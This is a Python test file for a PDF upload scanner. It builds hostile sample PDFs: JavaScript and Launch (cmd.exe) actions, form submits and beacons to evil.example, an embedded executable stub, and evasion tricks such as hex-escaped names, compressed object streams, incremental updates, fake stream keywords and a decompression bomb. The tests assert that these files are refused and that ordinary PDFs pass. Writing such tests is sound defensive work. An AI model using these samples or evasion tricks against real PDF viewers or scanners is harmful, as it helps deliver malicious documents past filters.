"""Hostile PDFs: JavaScript, launch actions, embedded files, rich media, XFA and automatic actions
are refused wherever in the file they hide (open action, page and annotation actions, names trees,
object streams, incremental updates, hex-escaped names, behind a fake ``stream`` keyword, in an
object no cross-reference table lists); ordinary PDFs — a blank page, a scan, a link, our own
certificate — are accepted. Built here, with pypdf or byte by byte."""
from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject)

from workflows.documents import pdfscan
from workflows.documents.uploads import PDF, UploadRefused, detect

from .conftest import sample_certificate

JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"


# ------------------------------------------------------------------ builders

def build(objects: dict[int, bytes], packed: dict[int, bytes] | None = None, *, root: int = 1, base: bytes = b"",
          extra: bytes = b"") -> bytes:
    """A PDF (or, with ``base``, an incremental update appended to it) with a cross-reference stream.
    ``packed`` objects go into a Flate-compressed object stream; ``extra`` is written as is, listed nowhere."""
    out = bytearray(base or b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    prev = size = None
    if base:
        reader = PdfReader(io.BytesIO(base))
        prev = int(base[base.rindex(b"startxref") + 9:].split()[0])
        size = int(reader.trailer["/Size"])
    entries: dict[int, tuple[int, int, int]] = {} if base else {0: (0, 0, 65535)}
    for num, body in objects.items():
        entries[num] = (1, len(out), 0)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    if packed:
        stm = max([*objects, *packed, size or 0]) + 1
        bodies, header, offset = b"", [], 0
        for num, body in packed.items():
            header.append(b"%d %d" % (num, offset))
            bodies += body + b"\n"
            offset = len(bodies)
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + bodies)
        entries[stm] = (1, len(out), 0)
        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                % (stm, len(packed), len(head), len(data)) + data + b"\nendstream\nendobj\n")
        for index, num in enumerate(packed):
            entries[num] = (2, stm, index)
    out += extra
    xref = max([*entries, size or 0]) + 1
    entries[xref] = (1, len(out), 0)
    numbers = sorted(entries)
    rows = b"".join(struct.pack(">BIH", *entries[n]) for n in numbers)
    index = b" ".join(b"%d 1" % n for n in numbers)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Index [%s] /W [1 4 2] /Root %d 0 R%s /Length %d >>\nstream\n"
            % (xref, xref + 1, index, root, b" /Prev %d" % prev if prev is not None else b"", len(rows))
            + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % entries[xref][1]
    return bytes(out)


def page_tree(catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    return {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>"}


def written(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def blank() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return written(writer)


def action(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def js() -> DictionaryObject:
    return action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert('x')"))


# ------------------------------------------------------------------ hostile files

def open_action_javascript():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(js())
    return written(writer)


def page_additional_action():
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    page[NameObject("/AA")] = action(O=js())  # runs when the page is opened
    return written(writer)


def link_annotation_javascript():
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    link = action(Type=NameObject("/Annot"), Subtype=NameObject("/Link"),
                  Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]), A=js())
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return written(writer)


def embedded_executable():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("说明.exe", b"MZ\x90\x00" + b"\x00" * 200)
    return written(writer)


def launch_action():
    return build(page_tree(b"/OpenAction 4 0 R") | {4: b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"})


def names_tree_javascript_in_an_object_stream():
    return build(page_tree(b"/Names 4 0 R"), {4: b"<< /JavaScript 5 0 R >>", 5: b"<< /Names [(init) 6 0 R] >>",
                                             6: JS_ACTION})


def hex_escaped_launch():
    return build(page_tree(b"/OpenAction 4 0 R") | {4: b"<< /S /L#61unch /F (cmd.exe) >>"})


def fully_escaped_js_key():
    return build(page_tree(b"/OpenAction 4 0 R") | {4: b"<< /S /J#61va#53cript /#4A#53 (app.alert(1)) >>"})


def file_attachment_annotation():
    return build(page_tree(page_extra=b"/Annots [4 0 R]") | {
        4: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
        5: b"<< /Type /Filespec /F (a.exe) >>"})


def rich_media_annotation():
    return build(page_tree(page_extra=b"/Annots [4 0 R]") | {
        4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << /Assets 5 0 R >> >>",
        5: b"<< /Names [] >>"})


def xfa_form():
    return build(page_tree(b"/AcroForm 4 0 R") | {4: b"<< /Fields [] /XFA 5 0 R >>",
                                                  5: b"<< /Length 0 >>\nstream\n\nendstream"})


def submit_form():
    return build(page_tree(b"/OpenAction 4 0 R") | {4: b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>"})


def open_action_uri():  # opening the file calls a web address (a tracking beacon)
    return build(page_tree(b"/OpenAction 4 0 R") | {4: b"<< /S /URI /URI (http://evil.example/track) >>"})


def incremental_update_adds_page_action():
    """A clean file, then an incremental update (written by pypdf) that gives the page an /AA."""
    writer = PdfWriter(io.BytesIO(blank()), incremental=True)
    writer.pages[0][NameObject("/AA")] = action(O=js())
    return written(writer)


def incremental_update_in_an_object_stream():
    """A clean file, then an update whose new catalog and JavaScript sit in a compressed object stream."""
    base = blank()
    reader = PdfReader(io.BytesIO(base))
    root, pages = reader.trailer.raw_get("/Root").idnum, reader.trailer["/Root"].raw_get("/Pages").idnum
    size = int(reader.trailer["/Size"])
    return build({}, {root: b"<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R >>" % (pages, size),
                      size: b"<< /S /J#61vaScript /JS (app.alert(1)) >>"}, root=root, base=base)


def behind_a_fake_stream_keyword():
    """A string holding ``>>stream`` makes a naive scanner skip to the next ``endstream``: the
    JavaScript object between them is still found (every object header is parsed)."""
    return build(page_tree(b"/OpenAction 5 0 R /Lang (x>>stream\n)") | {
        5: JS_ACTION, 6: b"<< /Note (endstream) >>"})


def unlisted_object():
    """An action no cross-reference table lists (a viewer that rebuilds the table finds it)."""
    return build(page_tree(), extra=b"9 0 obj\n" + JS_ACTION + b"\nendobj\n")


HOSTILE = [
    pytest.param(open_action_javascript, "JavaScript", id="javascript-in-open-action"),
    pytest.param(page_additional_action, "AA", id="javascript-in-page-aa"),
    pytest.param(link_annotation_javascript, "JavaScript", id="javascript-in-link-annotation"),
    pytest.param(embedded_executable, "EmbeddedFile", id="embedded-executable"),
    pytest.param(launch_action, "Launch", id="launch-action"),
    pytest.param(names_tree_javascript_in_an_object_stream, "JavaScript", id="names-tree-in-object-stream"),
    pytest.param(hex_escaped_launch, "Launch", id="hex-escaped-launch"),
    pytest.param(fully_escaped_js_key, "JavaScript", id="hex-escaped-javascript"),
    pytest.param(file_attachment_annotation, "FileAttachment", id="file-attachment-annotation"),
    pytest.param(rich_media_annotation, "RichMedia", id="rich-media"),
    pytest.param(xfa_form, "XFA", id="xfa-form"),
    pytest.param(submit_form, "SubmitForm", id="submit-form"),
    pytest.param(open_action_uri, "OpenAction", id="open-action-visits-a-web-site"),
    pytest.param(incremental_update_adds_page_action, "AA", id="incremental-update"),
    pytest.param(incremental_update_in_an_object_stream, "JavaScript", id="incremental-update-in-object-stream"),
    pytest.param(behind_a_fake_stream_keyword, "JavaScript", id="behind-a-fake-stream-keyword"),
    pytest.param(unlisted_object, "JavaScript", id="object-no-xref-lists"),
]


@pytest.mark.parametrize("make, name", HOSTILE)
def test_hostile_pdf_is_refused_with_a_chinese_reason(make, name):
    content = make()
    assert pdfscan.open_reader(content).pages  # a real PDF a viewer opens, not a broken file
    with pytest.raises(UploadRefused) as refused:
        detect(content)
    assert refused.value.reason == "pdf_active_content"
    message = refused.value.message
    assert message.startswith("PDF 文件包含") and "存在安全风险，已拒绝" in message
    finding = pdfscan.scan_pdf(content)
    assert finding is not None and finding.label in message
    expected = pdfscan.OPEN_ACTION[1] if name == "OpenAction" else pdfscan.active(name).label
    assert finding.label == expected


def test_each_layer_finds_what_the_one_before_cannot():
    hidden = behind_a_fake_stream_keyword()
    assert pdfscan.first_active_text(hidden) is None           # the raw text scan is fooled ...
    assert pdfscan.scan_pdf(hidden).label == "JavaScript 脚本"  # ... the object headers are not
    packed = names_tree_javascript_in_an_object_stream()
    assert pdfscan.first_active_text(packed) is None            # compressed: nothing to see in the raw text
    reader = pdfscan.open_reader(packed)
    budget = pdfscan._Budget(10_000, 10_000_000)
    assert pdfscan._scan_reader(reader, budget).label == "JavaScript 脚本"   # pypdf's view decompresses it
    assert pdfscan._scan_headers(packed, reader, budget).label == "JavaScript 脚本"


# ------------------------------------------------------------------ ordinary files

def scanned_pdf() -> bytes:
    buf = io.BytesIO()
    Image.effect_noise((600, 800), 30).convert("RGB").save(buf, format="PDF", resolution=150)
    return buf.getvalue()


def pdf_with_a_link_and_a_start_page() -> bytes:
    return build(page_tree(b"/OpenAction [3 0 R /Fit]", b"/Annots [4 0 R]") | {
        4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.chifeng.gov.cn/) >> >>"})


def our_certificate() -> bytes:
    from workflows.documents.render import render_pdf
    return render_pdf(sample_certificate())


@pytest.mark.parametrize("make", [blank, scanned_pdf, pdf_with_a_link_and_a_start_page, our_certificate])
def test_ordinary_pdf_is_accepted(make):
    content = make()
    assert pdfscan.scan_pdf(content) is None
    assert detect(content) is PDF


def test_object_stream_that_expands_beyond_the_limit_is_not_checked_but_refused():
    bomb = build(page_tree(), {4: b"<< /Filler (" + b"x" * 2_000_000 + b") >>"})  # 2 MB from a few KB
    assert len(bomb) < 10_000
    with pytest.raises(pdfscan.PdfTooComplex):
        pdfscan.scan_pdf(bomb, max_decoded=1_000_000)
